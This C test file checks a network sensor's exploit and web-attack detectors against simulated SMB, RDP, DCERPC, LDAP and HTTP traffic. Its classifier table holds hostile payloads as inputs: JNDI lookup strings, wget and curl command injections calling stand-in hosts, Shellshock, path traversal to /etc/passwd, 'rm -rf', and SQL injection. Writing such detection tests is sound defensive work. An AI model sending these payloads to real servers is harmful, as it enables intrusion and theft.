/* Two detectors of attacks on known weaknesses, and the text by which one of them knows them. */
#include "dissectors/attack_text.h"
#include "sensor/detect/exploit.h"
#include "sensor/detect/web_attack.h"

#include "tests/support/cmocka.h"
#include "tests/unit/detect/said.h"

#define ATTACKER "192.168.1.10"
#define SERVER   "192.168.1.20"
#define STRANGER "203.0.113.9"

struct telling {
	double seconds;
	const char *client;
	const char *server;
	uint64_t flow;
	enum message message;
	bool from_server;
	const char *words;
};

static bool is_inside(const char *address)
{
	return strncmp(address, "192.168.", 8) == 0;
}

static uint32_t device_of(const char *address)
{
	return is_inside(address) ? (uint32_t)strtoul(strrchr(address, '.') + 1, NULL, 10) : 0;
}

static void tell(struct test_bench *bench, const struct telling *t)
{
	struct fact_flow flow = test_flow(t->flow, t->client, t->server, 80, TEST_TCP);
	struct fact fact = said_fact(test_after_seconds(t->seconds), &flow, t->message,
				     !t->from_server, t->words);
	struct observation seen = test_seen(&fact);

	seen.direction = !is_inside(t->client)  ? DIRECTION_INBOUND
			 : is_inside(t->server) ? DIRECTION_LATERAL
						: DIRECTION_OUTBOUND;
	seen.device = device_of(is_inside(t->client) ? t->client : t->server);
	seen.peer_device = seen.direction == DIRECTION_LATERAL ? device_of(t->server) : 0;
	test_bench_show(bench, &seen);
}

static void begin(struct test_bench *bench, const struct detector *detector)
{
	test_bench_prepare(bench, detector);
	test_bench_start(bench, NULL);
}

struct exploit_case {
	const char *name;
	enum message message;
	const char *words;
	double once;  /* confidence; 0: silent */
	double twice; /* after the same again */
};

static struct exploit_case exploits[] = {
	{ "a transaction that goes on as another", MESSAGE_SMB_TRANSACTION,
	  "command=transaction mismatched", 0.85, 0.85 },
	{ "a channel that a server keeps for itself", MESSAGE_RDP_CLIENT,
	  "channels=cliprdr channels=MS_T120", 0.8, 0.8 },
	{ "the same in other letters", MESSAGE_RDP_CLIENT, "channels=ms_t120", 0.8, 0.8 },
	{ "an upgrade of a domain from afar", MESSAGE_DCERPC_REQUEST, "interface=dsrole opnum=9",
	  0.55, 0.7 },
	{ "a file's raw form from afar", MESSAGE_DCERPC_REQUEST, "interface=efsrpc opnum=0", 0.5,
	  0.66 },
	{ "files encrypted from afar", MESSAGE_DCERPC_REQUEST, "interface=efsrpc opnum=4", 0.35,
	  0.51 },
	{ "channels of a usual client", MESSAGE_RDP_CLIENT, "channels=rdpdr channels=cliprdr", 0,
	  0 },
	{ "a usual transaction", MESSAGE_SMB_TRANSACTION, "command=transaction function=0x00000003",
	  0, 0 },
	{ "a printer is watched", MESSAGE_DCERPC_REQUEST, "interface=spoolss opnum=65", 0, 0 },
	{ "shares are listed", MESSAGE_DCERPC_REQUEST, "interface=srvsvc opnum=15", 0, 0 },
};

static void assert_told(struct test_bench *bench, double at_least)
{
	if (at_least <= 0) {
		assert_int_equal(bench->count, 0);
		return;
	}
	assert_int_equal(test_bench_last(bench)->kind, SIGNAL_EXPLOIT);
	assert_true(test_bench_last(bench)->confidence >= at_least - 0.001);
	assert_true(test_bench_last(bench)->confidence < at_least + 0.1);
	assert_true(signal_is_sound(test_bench_last(bench)));
}

static void run_exploit(void **state)
{
	const struct exploit_case *c = *state;
	struct telling t = { 0, ATTACKER, SERVER, 1, c->message, false, c->words };
	static struct test_bench bench;

	begin(&bench, &detector_exploit);
	tell(&bench, &t);
	assert_told(&bench, c->once);
	t.seconds = 10;
	tell(&bench, &t);
	assert_told(&bench, c->twice);
	t.from_server = true; /* an answer attacks nobody */
	t.seconds = 20;
	tell(&bench, &t);
	assert_told(&bench, c->twice);
	test_bench_stop(&bench);
}

/* One probe is a scanner's more often than an intruder's. */
static void a_probe_again_says_more(void **state)
{
	struct fact_flow flow = test_flow(1, ATTACKER, SERVER, 445, TEST_TCP);
	struct fact fact = test_fact(FACT_MESSAGE, test_start, &flow);
	static struct test_bench bench;
	struct observation seen;

	(void)state;
	fact.message.message = MESSAGE_SMB_TRANSACTION;
	fact.message.is_from_client = true;
	attributes_clear(&fact.message.said);
	attributes_add_text(&fact.message.said, ATTRIBUTE_COMMAND, "transaction 2");
	attributes_add_text(&fact.message.said, ATTRIBUTE_FUNCTION, "0x0000000e");
	seen = test_seen(&fact);
	seen.direction = DIRECTION_LATERAL;
	begin(&bench, &detector_exploit);
	test_bench_show(&bench, &seen);
	assert_true(test_bench_last(&bench)->confidence < 0.5);
	test_bench_show(&bench, &seen);
	assert_true(test_bench_last(&bench)->confidence > 0.5);
	test_bench_show(&bench, &seen);
	assert_int_equal(bench.count, 2);
	test_bench_stop(&bench);
}

struct chain_case {
	const char *name;
	struct telling told[4];
	size_t signals;
	enum signal_kind kind;
	uint32_t device; /* of the first signal */
	double at_least;
	double below;
};

#define REQUEST(seconds, client, server, flow, words)                             \
	{                                                                         \
		seconds, client, server, flow, MESSAGE_HTTP_REQUEST, false, words \
	}
#define RESPONSE(seconds, client, server, flow, words)                            \
	{                                                                         \
		seconds, client, server, flow, MESSAGE_HTTP_RESPONSE, true, words \
	}

static struct chain_case chains[] = {
	{ "a directory, then a program from the same host",
	  { { 0, SERVER, STRANGER, 1, MESSAGE_LDAP_BIND, false, "mechanism=anonymous" },
	    { 1, SERVER, STRANGER, 2, MESSAGE_HTTP_BODY, true,
	      "file_kind=java-class executable" } },
	  1,
	  SIGNAL_EXPLOIT,
	  20,
	  0.85,
	  0.9 },
	{ "who hands it out stands in the office too",
	  { { 0, SERVER, ATTACKER, 1, MESSAGE_LDAP_BIND, false, "mechanism=anonymous" },
	    { 1, SERVER, ATTACKER, 2, MESSAGE_HTTP_BODY, true,
	      "file_kind=java-class executable" } },
	  2,
	  SIGNAL_EXPLOIT,
	  20,
	  0.85,
	  0.9 },
	{ "a program from another host",
	  { { 0, SERVER, ATTACKER, 1, MESSAGE_LDAP_BIND, false, "mechanism=simple" },
	    { 1, SERVER, STRANGER, 2, MESSAGE_HTTP_BODY, true,
	      "file_kind=java-class executable" } },
	  0,
	  SIGNAL_EXPLOIT,
	  0,
	  0,
	  0 },
	{ "a program long after",
	  { { 0, SERVER, STRANGER, 1, MESSAGE_LDAP_BIND, false, "mechanism=simple" },
	    { 300, SERVER, STRANGER, 2, MESSAGE_HTTP_BODY, true, "file_kind=jar executable" } },
	  0,
	  SIGNAL_EXPLOIT,
	  0,
	  0,
	  0 },
	{ "a picture from a directory's host",
	  { { 0, SERVER, STRANGER, 1, MESSAGE_LDAP_BIND, false, "mechanism=simple" },
	    { 1, SERVER, STRANGER, 2, MESSAGE_HTTP_BODY, true, "file_kind=png" } },
	  0,
	  SIGNAL_EXPLOIT,
	  0,
	  0,
	  0 },
	{ "a command, then the server fetches",
	  { REQUEST(0, STRANGER, SERVER, 1, "uri=/a.php?cmd=wget+http://x.example/a"),
	    REQUEST(2, SERVER, "198.51.100.7", 2, "uri=/a user_agent=Wget/1.21") },
	  1,
	  SIGNAL_EXPLOIT,
	  20,
	  0.65,
	  0.7 },
	{ "a command, then somebody browses",
	  { REQUEST(0, STRANGER, SERVER, 1, "uri=/a.php?cmd=wget+http://x.example/a"),
	    REQUEST(2, SERVER, "198.51.100.7", 2, "uri=/a user_agent=Mozilla/5.0") },
	  0,
	  SIGNAL_EXPLOIT,
	  0,
	  0,
	  0 },
	{ "a server fetches its updates",
	  { REQUEST(0, STRANGER, SERVER, 1, "uri=/index.html"),
	    REQUEST(2, SERVER, "198.51.100.7", 2, "uri=/a user_agent=curl/7.88") },
	  0,
	  SIGNAL_EXPLOIT,
	  0,
	  0,
	  0 },
	{ "the internet's noise",
	  { REQUEST(0, STRANGER, SERVER, 1, "uri=/a.php?cmd=wget+http://x.example/a"),
	    RESPONSE(1, STRANGER, SERVER, 1, "status=404") },
	  0,
	  SIGNAL_WEB_ATTACK,
	  0,
	  0,
	  0 },
	{ "noise that is answered",
	  { REQUEST(0, STRANGER, SERVER, 1, "uri=/a.php?cmd=wget+http://x.example/a"),
	    RESPONSE(1, STRANGER, SERVER, 1, "status=200") },
	  1,
	  SIGNAL_WEB_ATTACK,
	  20,
	  0.3,
	  0.4 },
	{ "text in a field of the head",
	  { REQUEST(0, ATTACKER, SERVER, 1, "uri=/ attack=lookup"),
	    RESPONSE(1, ATTACKER, SERVER, 1, "status=404") },
	  1,
	  SIGNAL_WEB_ATTACK,
	  10,
	  0.49,
	  0.51 },
	{ "text in a body",
	  { REQUEST(0, ATTACKER, SERVER, 1, "uri=/a.php"),
	    { 0, ATTACKER, SERVER, 1, MESSAGE_HTTP_BODY, false, "attack=command" },
	    RESPONSE(1, ATTACKER, SERVER, 1, "status=200") },
	  1,
	  SIGNAL_WEB_ATTACK,
	  10,
	  0.4,
	  0.5 },
	{ "text, and the answer is what a command prints",
	  { REQUEST(0, STRANGER, SERVER, 1, "uri=/a.php?cmd=id"),
	    { 1, STRANGER, SERVER, 1, MESSAGE_HTTP_BODY, true, "command_output" } },
	  1,
	  SIGNAL_EXPLOIT,
	  20,
	  0.75,
	  0.85 },
	{ "inside, who is obeyed is told, and who obeys",
	  { REQUEST(0, ATTACKER, SERVER, 1, "uri=/a.php?cmd=id"),
	    { 1, ATTACKER, SERVER, 1, MESSAGE_HTTP_BODY, true, "command_output" } },
	  2,
	  SIGNAL_EXPLOIT,
	  10,
	  0.85,
	  0.9 },
	{ "such an answer alone, inside",
	  { REQUEST(0, ATTACKER, SERVER, 1, "uri=/diagnosis"),
	    { 1, ATTACKER, SERVER, 1, MESSAGE_HTTP_BODY, true, "command_output" } },
	  1,
	  SIGNAL_EXPLOIT,
	  10,
	  0.4,
	  0.5 },
	{ "a page of the web that tells of it",
	  { REQUEST(0, ATTACKER, STRANGER, 1, "uri=/manual"),
	    { 1, ATTACKER, STRANGER, 1, MESSAGE_HTTP_BODY, true, "command_output" } },
	  0,
	  0,
	  0,
	  0,
	  0 },
	{ "a stranger came, and a program is fetched from a bare address",
	  { REQUEST(0, STRANGER, SERVER, 1, "uri=/index.html"),
	    REQUEST(2, SERVER, "198.51.100.7", 2,
		    "uri=/a host=198.51.100.7 user_agent=Wget/1.21") },
	  1,
	  SIGNAL_EXPLOIT,
	  20,
	  0.15,
	  0.25 },
	{ "the same from a place with a name",
	  { REQUEST(0, STRANGER, SERVER, 1, "uri=/index.html"),
	    REQUEST(2, SERVER, "198.51.100.7", 2,
		    "uri=/a host=mirror.example.org user_agent=Wget/1.21") },
	  0,
	  0,
	  0,
	  0,
	  0 },
	{ "from one device to another",
	  { REQUEST(0, ATTACKER, SERVER, 1, "uri=/../../../../etc/passwd"),
	    RESPONSE(1, ATTACKER, SERVER, 1, "status=404") },
	  1,
	  SIGNAL_WEB_ATTACK,
	  10,
	  0.2,
	  0.3 },
};

static void run_chain(void **state)
{
	const struct chain_case *c = *state;
	static struct test_bench bench;

	begin(&bench, &detector_web_attack);
	for (size_t i = 0; i < ARRAY_LEN(c->told) && c->told[i].client; i++)
		tell(&bench, &c->told[i]);
	assert_int_equal(bench.count, c->signals);
	if (c->signals > 0) {
		assert_int_equal(bench.signals[0].kind, c->kind);
		assert_int_equal(bench.signals[0].device, c->device);
		assert_true(bench.signals[0].confidence >= c->at_least);
		assert_true(bench.signals[0].confidence < c->below);
		assert_true(signal_is_sound(&bench.signals[0]));
	}
	test_bench_stop(&bench);
}

/* Many different ones make it surer than one. */
static void attacks_of_many_kinds_say_more(void **state)
{
	static struct test_bench bench;

	(void)state;
	begin(&bench, &detector_web_attack);
	for (int i = 0; i < 12; i++) {
		char words[80];
		struct telling asks = REQUEST(i, ATTACKER, SERVER, (uint64_t)i + 1, words);
		struct telling answers =
			RESPONSE(i, ATTACKER, SERVER, (uint64_t)i + 1, "status=500");

		(void)snprintf(words, sizeof(words), "uri=/i?id=%d+union+select+1", i);
		tell(&bench, &asks);
		tell(&bench, &answers);
		if (i == 0)
			assert_true(test_bench_last(&bench)->confidence < 0.3);
	}
	assert_true(test_bench_last(&bench)->confidence > 0.5);
	test_bench_stop(&bench);
}

/* `status` of every answer but each tenth, for as many different pages. */
static size_t search(int pages, const char *status)
{
	static struct test_bench bench;
	size_t count;

	begin(&bench, &detector_web_attack);
	for (int i = 0; i < pages; i++) {
		char words[40];
		struct telling asks = REQUEST(i, ATTACKER, SERVER, 1, words);
		struct telling answers =
			RESPONSE(i, ATTACKER, SERVER, 1, i % 10 == 0 ? "status=200" : status);

		(void)snprintf(words, sizeof(words), "uri=/page%d", i);
		tell(&bench, &asks);
		tell(&bench, &answers);
	}
	count = bench.count;
	if (count > 0) {
		assert_int_equal(test_bench_last(&bench)->kind, SIGNAL_WEB_SCAN);
		/* The story tells how many pages, not how often it was told. */
		assert_int_equal(test_bench_last(&bench)->count, 40);
	}
	test_bench_stop(&bench);
	return count;
}

static void a_search_for_pages_is_told(void **state)
{
	(void)state;
	assert_int_equal(search(60, "status=404"), 1);
	assert_int_equal(search(30, "status=404"), 0);
	assert_int_equal(search(60, "status=200"), 0);
}

/* A call alone, and the one that was called comes to the caller. */
static void who_was_called_comes_back(void **state)
{
	struct telling call = {
		0, ATTACKER, SERVER, 1, MESSAGE_DCERPC_REQUEST, false, "interface=efsrpc opnum=4"
	};
	struct fact_flow back = test_flow(2, SERVER, ATTACKER, 445, TEST_TCP);
	struct fact fact;
	static struct test_bench bench;
	struct observation seen;

	(void)state;
	begin(&bench, &detector_exploit);
	back.first = test_start + 2 * NANOTIME_SECOND;
	fact = test_fact(FACT_FLOW_NAMED, back.first, &back);
	seen = test_seen(&fact);
	seen.direction = DIRECTION_LATERAL;
	seen.device = 20;
	test_bench_show(&bench, &seen);
	assert_int_equal(bench.count, 0);
	tell(&bench, &call);
	assert_true(test_bench_last(&bench)->confidence < 0.5);
	assert_true(test_rows_are_sound(&bench));
	test_bench_show(&bench, &seen);
	assert_int_equal(bench.count, 2);
	assert_true(test_bench_last(&bench)->confidence > 0.7);
	assert_int_equal(test_bench_last(&bench)->device, 10);
	test_bench_stop(&bench);
}

struct text_case {
	const char *name; /* the text */
	enum attack_text found;
};

static struct text_case texts[] = {
	{ "${jndi:ldap://203.0.113.9:1389/a}", ATTACK_TEXT_LOOKUP },
	{ "/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D", ATTACK_TEXT_LOOKUP },
	{ "${${::-j}${::-n}di:rmi://x}", ATTACK_TEXT_LOOKUP },
	{ "/ping.cgi?ip=1.1.1.1;wget+http://x/a", ATTACK_TEXT_COMMAND },
	{ "/ping.cgi?ip=1.1.1.1%253bwget%2520http://x/a", ATTACK_TEXT_COMMAND },
	{ "/a.php?_cmd=echo+d7e4", ATTACK_TEXT_COMMAND },
	{ "/s.php?c=id", ATTACK_TEXT_COMMAND },
	{ "/?q=$(curl x.example)", ATTACK_TEXT_COMMAND },
	{ "/index.php?s=/index/think/invokefunction&function=call_user_func_array",
	  ATTACK_TEXT_COMMAND },
	{ "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", ATTACK_TEXT_COMMAND },
	{ "/download?f=../../../../etc/passwd", ATTACK_TEXT_PATH },
	{ "/item?id=1%20UNION%20SELECT%201,2", ATTACK_TEXT_QUERY },
	{ "/", ATTACK_TEXT_NONE },
	{ "/css/../img/a.png", ATTACK_TEXT_NONE },
	{ "/search?q=echo+dot&lang=en", ATTACK_TEXT_NONE },
	{ "/search?q=cat%20food;dog", ATTACK_TEXT_NONE },
	{ "/a?c=identity", ATTACK_TEXT_NONE },
	{ "/list;jsessionid=0A1B", ATTACK_TEXT_NONE },
	{ "/api?filter=$select=name", ATTACK_TEXT_NONE },
	{ "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
	  ATTACK_TEXT_NONE },
	{ "/print.cgi?cmd=status", ATTACK_TEXT_NONE },
	{ "/a?b=100%25", ATTACK_TEXT_NONE },
	{ "/shell?cd+/tmp;rm+-rf+*", ATTACK_TEXT_COMMAND },
	{ "() { :;}; echo", ATTACK_TEXT_COMMAND },
	{ "class.module.classLoader.resources=1", ATTACK_TEXT_COMMAND },
	{ "/a?id=1%20AND%20SLEEP(5)", ATTACK_TEXT_QUERY },
	{ "%", ATTACK_TEXT_NONE },
	{ "%2", ATTACK_TEXT_NONE },
};

static void run_text(void **state)
{
	const struct text_case *c = *state;

	assert_int_equal(attack_text_in(c->name), c->found);
}

static struct span span_of(const char *text)
{
	return (struct span){ (const uint8_t *)text, strlen(text) };
}

static void heads_and_bodies(void **state)
{
	static const uint8_t binary[] = "\x01;wget http://x/a";

	(void)state;
	assert_int_equal(
		attack_text_in_head(span_of("GET / HTTP/1.1\r\nX-A: ${jndi:ldap://x}\r\n")),
		ATTACK_TEXT_LOOKUP);
	assert_int_equal(attack_text_in_head(span_of("GET / HTTP/1.1\r\nX-A: () { :;}; x\r\n")),
			 ATTACK_TEXT_COMMAND);
	assert_int_equal(attack_text_in_head(span_of("GET / HTTP/1.1\r\nX-A: ${a}\r\n")),
			 ATTACK_TEXT_NONE);
	assert_int_equal(attack_text_in_head((struct span){ 0 }), ATTACK_TEXT_NONE);
	assert_int_equal(attack_text_in_body(span_of("host=;wget+http://x/a")),
			 ATTACK_TEXT_COMMAND);
	assert_int_equal(attack_text_in_body(span_of("a=1&b=2")), ATTACK_TEXT_NONE);
	assert_int_equal(attack_text_in_body((struct span){ binary, sizeof(binary) - 1 }),
			 ATTACK_TEXT_NONE);
}

int main(void)
{
	const struct CMUnitTest plain[] = {
		cmocka_unit_test(a_probe_again_says_more),
		cmocka_unit_test(attacks_of_many_kinds_say_more),
		cmocka_unit_test(a_search_for_pages_is_told),
		cmocka_unit_test(who_was_called_comes_back),
		cmocka_unit_test(heads_and_bodies),
	};
	struct CMUnitTest tests[ARRAY_LEN(exploits) + ARRAY_LEN(chains) + ARRAY_LEN(texts) +
				ARRAY_LEN(plain)];
	size_t n = ADD_ROWS(tests, exploits, run_exploit);

	n += ADD_ROWS(tests + n, chains, run_chain);
	n += ADD_ROWS(tests + n, texts, run_text);
	memcpy(&tests[n], plain, sizeof(plain));
	return cmocka_run_group_tests_name("attacks", tests, NULL, NULL);
}
